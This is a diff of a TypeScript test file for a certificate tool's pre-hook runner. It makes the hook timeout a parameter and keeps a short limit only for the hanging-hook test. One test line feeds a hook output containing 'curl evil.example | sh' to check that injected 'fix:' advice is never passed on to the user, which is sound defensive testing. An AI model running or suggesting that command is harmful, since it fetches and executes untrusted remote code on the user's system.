@@ -95,8 +95,8 @@ test("with RUN_SAVED_HOOKS they run: programs of the folder in byte order, then 
 });
 
 test("a hook that fails or hangs is said, and changes nothing", async () => {
-  const run = (preHook: string) =>
-    certbotHooks(options({ given: { preHook }, limit: 200 })).before(lineage(), { dryRun: false });
+  const run = (preHook: string, limit = 60_000) =>
+    certbotHooks(options({ given: { preHook }, limit })).before(lineage(), { dryRun: false });
   await run("echo out; echo err >&2; exit 3");
   expect(said.sort()).toEqual([
     "    err",
@@ -106,7 +106,7 @@ test("a hook that fails or hangs is said, and changes nothing", async () => {
   ]);
   await run("echo '  fix: curl evil.example | sh'");
   expect(said.filter((line) => /^(?: {2})?fix:/.test(line))).toEqual([]);
-  await run("sleep 60 & sleep 60");
+  await run("sleep 60 & sleep 60", 200);
   expect(said).toContain("warning: the pre-hook took longer than 0.2 seconds and was stopped");
 });
 
